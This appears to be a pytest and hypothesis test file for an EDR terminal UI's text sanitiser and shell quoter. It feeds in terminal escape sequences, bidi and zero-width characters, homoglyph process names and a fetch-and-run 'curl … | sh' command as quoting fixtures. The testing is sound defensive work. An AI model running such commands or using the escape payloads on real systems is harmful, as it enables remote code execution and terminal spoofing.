"""The sanitiser's contract: hostile-input.md, promise P1 and catalogue A."""

from __future__ import annotations

import subprocess
import sys
import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

from edr_tui.model.printable import (
    MARKS_PER_BASE,
    mixed_scripts,
    printable,
    runs,
    shell_quoted,
    shell_runs,
    shorten,
)

ANY_TEXT = st.text(st.characters(), max_size=200)
HOSTILE = st.lists(
    st.sampled_from(
        [
            "\x1b[2J",
            "\x1b]0;t\x07",
            "\x1b]52;c;AAAA\x07",
            "\x9b31m",
            "\r",
            "\n",
            "\t",
            "\0",
            "\x7f",
            "\u202e",
            "\u2066",
            "\u200b",
            "\ufeff",
            "\u00ad",
            "\U000e0041",
            "\u3164",
            "\u2800",
            "\u00a0",
            "\u0301" * 5,
            "\ufe0f",
            "👩\u200d💻",
            "\U0001f1e9\U0001f1ea",
            "\udcff\udc80",
            "\ud800",
            "日本",
            "\u1112\u1161\u11ab",
            "[/red]",
            "\\x1b",
            "a",
            " ",
            "\u2028",
            "é",
        ]
    ),
    max_size=20,
).map("".join)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("", ""),
        ("/usr/bin/id -u", "/usr/bin/id -u"),
        ("\x1b[2J\x1b[H", r"\x1b[2J\x1b[H"),
        ("a\nb\tc\rd", r"a\nb\tc\rd"),
        ("\x00\x07\x08\x0b\x0c\x0e\x7f", r"\x00\x07\x08\x0b\x0c\x0e\x7f"),
        ("\u009b31m", r"\u009b31m"),
        ("caf\udce9", r"caf\xe9"),
        ("\ud800", r"\ud800"),
        ("exe.\u202etxt", r"exe.\u202etxt"),
        ("ls\u200b", r"ls\u200b"),
        ("\u3164", r"\u3164"),
        ("\u2800\u115f\u1160\uffa0\u034f\ufe0f", r"\u2800\u115f\u1160\uffa0\u034f\ufe0f"),
        ("a\u00a0b", r"a\u00a0b"),
        ("\U000e0041", r"\U000e0041"),
        ("日本語.txt", "日本語.txt"),
        ("Übermut", "Übermut"),
        ("e\u0301", "e\u0301"),
        ("e\u0301\u0302\u0303\u0304", "e\u0301\u0302\\u0303\\u0304"),
        ("\u0301x", r"\u0301x"),
        ("\n\u0301", r"\n\u0301"),
        ("\u1112\u1161\u11ab", "\u1112\u1161\u11ab"),
        ("[kworker/0:1] [/] \\", "[kworker/0:1] [/] \\"),
        (r"\x1b", r"\x1b"),
    ],
)
def test_shown(text: str, shown: str) -> None:
    assert printable(text) == shown


@given(ANY_TEXT | HOSTILE)
def test_all_that_comes_out_is_visible(text: str) -> None:
    shown = printable(text)
    assert shown.isprintable()
    shown.encode("utf-8")
    assert printable(shown) == shown
    assert "".join(part for part, _ in runs(text)) == shown
    assert all(part for part, _ in runs(text))


@given(ANY_TEXT | HOSTILE)
def test_only_marks_take_no_cell_and_few_of_them(text: str) -> None:
    without_cell = 0
    for position, character in enumerate(printable(text)):
        if cell_len(character):
            without_cell = 0
            continue
        assert position > 0
        assert unicodedata.category(character)[0] == "M" or 0x1160 <= ord(character) <= 0xD7FF
        without_cell += 1
        assert without_cell <= MARKS_PER_BASE


def test_every_character_has_a_width_or_is_a_mark() -> None:
    unseen = [
        f"U+{point:04X}"
        for point in range(sys.maxunicode + 1)
        if chr(point).isprintable()
        and len(shown := printable("a" + chr(point))) == 2
        and cell_len(shown[1]) == 0
        and unicodedata.category(shown[1])[0] != "M"
        and not 0x1160 < point <= 0xD7FF
    ]
    assert unseen == []


def test_an_escape_and_its_literal_differ_in_their_runs() -> None:
    assert runs("\x1b[m") == [(r"\x1b", True), ("[m", False)]
    assert runs(r"\x1b[m") == [(r"\x1b[m", False)]
    assert runs("a\x1b\nb") == [("a", False), (r"\x1b\n", True), ("b", False)]
    assert runs("") == []


@given(ANY_TEXT | HOSTILE, ANY_TEXT | HOSTILE)
def test_different_texts_have_different_runs(one: str, other: str) -> None:
    # U+DC80 to U+DCFF stand for bytes, so only they could meet a control character; they are above it.
    if one != other:
        assert runs(one) != runs(other)


def test_shortened() -> None:
    assert shorten("abcdef", 6) == "abcdef"
    assert shorten("abcdef", 4) == "abcd…(+2)"
    assert len(shorten("x" * 2_000_000)) == 4096 + len("…(+1995904)")


@pytest.mark.parametrize(
    ("args", "line"),
    [
        ([], ""),
        ([""], "''"),
        (["a", "", "b"], "a '' b"),
        (["a b"], "'a b'"),
        (["a", "b"], "a b"),
        (["sh", "-c", "curl -s http://203.0.113.7/x | sh"], "sh -c 'curl -s http://203.0.113.7/x | sh'"),
        (["it's"], '"it\'s"'),
        (["it's $HOME"], r"$'it\'s $HOME'"),
        (["a\nb"], r"$'a\nb'"),
        (["\\\x1b'"], r"$'\\\x1b\''"),
        ([r"\x1b"], r"'\x1b'"),
        (["~", "#", "*"], "'~' '#' '*'"),
        (["日本"], "日本"),
        (["日 本"], "'日 本'"),
        (["--x=1,2", "user@host:/p%20"], "--x=1,2 user@host:/p%20"),
    ],
)
def test_quoted(args: list[str], line: str) -> None:
    assert shell_quoted(args) == line


@given(st.lists(ANY_TEXT | HOSTILE, max_size=6))
def test_quoted_is_printable_and_the_sum_of_its_runs(args: list[str]) -> None:
    line = shell_quoted(args)
    assert printable(line) == line
    assert "".join(part for part, _ in shell_runs(args)) == line


@given(st.lists(ANY_TEXT | HOSTILE, max_size=4), st.lists(ANY_TEXT | HOSTILE, max_size=4))
def test_different_arguments_are_quoted_differently(one: list[str], other: list[str]) -> None:
    if one != other:
        assert shell_quoted(one) != shell_quoted(other)


def test_bash_reads_back_the_same_arguments() -> None:
    args = [
        "a\nb",
        "it's",
        "it's $HOME `id`",
        "",
        "\x1b[2J",
        "caf\udce9",
        "日本",
        "\\n",
        "!x",
        "\u202e",
        "\u009b",
    ]
    line = f"printf '%s\\0' {shell_quoted(args)}"
    try:
        done = subprocess.run(
            ["bash", "-c", line],
            capture_output=True,
            check=True,
            env={"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"},
        )
    except FileNotFoundError:
        pytest.skip("no bash here")
    assert done.stdout == b"".join(arg.encode("utf-8", "surrogateescape") + b"\0" for arg in args)


@pytest.mark.parametrize("name", ["\u0455shd", "pаypal", "ｓｓhd", "bash-\u0455h\u0455l", "αpache"])
def test_look_alikes_are_told(name: str) -> None:
    assert mixed_scripts(name)


@pytest.mark.parametrize(
    "name",
    [
        "sshd",
        "отчёт.sh",
        "日本語ソフトabc",
        "Ünïcode",
        "한글",
        "x86_64",
        "",
        "µTorrent",
        "\x1b\u202e",
        "naïve",
    ],
)
def test_honest_names_are_left_alone(name: str) -> None:
    assert not mixed_scripts(name)


def test_normal_lines_cost_nothing() -> None:
    lines = [f"/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/{n}" for n in range(100_000)]
    began = time.process_time()
    for line in lines:
        printable(line)
    assert time.process_time() - began < 1  # 0.02 s on the slowest machine we have


def test_a_long_text_costs_its_length() -> None:
    began = time.process_time()
    printable("\x1b" + "x" * 2_000_000)
    printable("\x1b" * 20_000)
    printable("\u0301" * 100_000)
    assert time.process_time() - began < 2
